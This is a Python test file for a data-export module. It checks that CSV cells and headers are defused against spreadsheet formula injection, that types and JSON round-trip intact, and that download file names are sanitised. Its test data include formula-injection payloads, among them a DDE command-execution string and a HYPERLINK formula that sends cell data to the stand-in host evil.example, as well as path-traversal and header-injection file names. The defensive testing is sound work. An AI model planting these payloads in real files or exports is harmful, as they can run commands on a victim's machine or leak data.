from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quaestor.core.catalog import Kind
from quaestor.core.exporting import Format, csv_lines, file_name, json_parts, neutralised
from quaestor.core.rows import Cell, ResultColumn, Rows

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "|calc",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "   =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200b \u00a0\ufeff=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    "\0=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "｜calc",
    "﹦1",
    "-5",
    "+1 555 0100",
    "@handle",
    "''=1",
]
EMBEDDED = ["harmless\n=1+1", "harmless\r\n  +1", "harmless\r@x", "a;=1+1", "a\t=1+1", "a,=1+1", "a;+cmd|x"]
HARMLESS = [
    "",
    "plain",
    "a=b",
    "a - b",
    "1-2",
    "x@y.example",
    "a|b",
    "Doe, John",
    "a; -b",
    "é",
    "'quoted'",
    "5",
    "€ -5",
]


def one(cell: Cell, name: str = "c") -> Rows:
    return Rows((ResultColumn(name, Kind.OTHER),), ((cell,),))


def fields(rows: Rows) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(csv_lines(rows)), newline="")))


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if not each.startswith("''")])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload: str) -> None:
    (field,) = fields(one(payload))[1]
    assert field.startswith("'")
    assert field.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_headers_are_neutralised_too(payload: str) -> None:
    assert fields(one("x", name=payload))[0][0].startswith("'")


@pytest.mark.parametrize("payload", EMBEDDED)
def test_formulas_after_line_breaks_and_other_separators_are_neutralised(payload: str) -> None:
    changed = neutralised(payload)
    assert changed.replace("'", "") == payload
    assert changed.count("'") == 1


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_not_touched(text: str) -> None:
    assert fields(one(text))[1] == [text]


@given(st.text(), st.sampled_from(PAYLOADS[:5]), st.text(alphabet=" \t\u200b\ufeff\u00a0", max_size=4))
def test_no_field_begins_like_a_formula(tail: str, payload: str, skipped: str) -> None:
    assert neutralised(skipped + payload + tail).startswith("'")
    assert neutralised(neutralised(payload)) == neutralised(payload)


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (-5, "-5"),
        (-1.5, "-1.5"),
        (Decimal("-12.340"), "-12.340"),
        (2**60, "1152921504606846976"),
        (-(2**60), "-1152921504606846976"),
        (float("nan"), ""),
        (None, ""),
        (True, "true"),
        (dt.date(2024, 2, 29), "2024-02-29"),
        (dt.timedelta(days=-1), "'-P1DT0H0M0S"),
        (b"\xfb\xff", "'+/8="),
        ({"a": [1, Decimal("2.50")]}, '{"a": [1, "2.50"]}'),
    ],
)
def test_numbers_stay_numbers_and_the_rest_is_text(cell: Cell, text: str) -> None:
    assert fields(one(cell))[1:] in ([[text]], [[]])


def test_null_and_empty_text_differ() -> None:
    rows = Rows((ResultColumn("a", Kind.TEXT), ResultColumn("b", Kind.TEXT)), ((None, ""),))
    assert list(csv_lines(rows)) == ["a,b\r\n", ',""\r\n']


def test_a_byte_order_mark_is_written_only_when_asked_for() -> None:
    assert next(csv_lines(one(1))) == "c\r\n"
    assert next(csv_lines(one(1), bom=True)) == "\ufeffc\r\n"


@given(st.lists(st.tuples(st.text(), st.integers(), st.none() | st.text()), max_size=5))
def test_csv_reads_back_as_the_same_table(rows: list[tuple[str, int, str | None]]) -> None:
    table = Rows(tuple(ResultColumn(name, Kind.OTHER) for name in "abc"), tuple(rows))
    expected = [["a", "b", "c"], *[[neutralised(a), str(b), neutralised(c or "")] for a, b, c in rows]]
    assert fields(table) == expected


@given(st.lists(st.tuples(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)), max_size=4))
def test_json_reads_back_as_the_same_table(rows: list[tuple[str, int, float]]) -> None:
    columns = (ResultColumn("=a", Kind.TEXT), ResultColumn("b", Kind.INTEGER), ResultColumn("c", Kind.NUMBER))
    document = json.loads("".join(json_parts(Rows(columns, tuple(rows), truncated=True))))
    assert document["columns"] == [
        {"name": "=a", "type": "text"},
        {"name": "b", "type": "integer"},
        {"name": "c", "type": "number"},
    ]
    assert [[a, int(b), c] for a, b, c in document["rows"]] == [list(row) for row in rows]
    assert (document["row_count"], document["truncated"]) == (len(rows), True)


@pytest.mark.parametrize(
    ("stem", "name"),
    [("ans_1", "ans_1.csv"), ("../etc/passwd", "etc-passwd.csv"), ('a"\r\nX: y', "a-X-y.csv"), ("…", "answer.csv")],
)
def test_a_file_name_is_safe_in_a_header(stem: str, name: str) -> None:
    assert file_name(stem, Format.CSV) == name
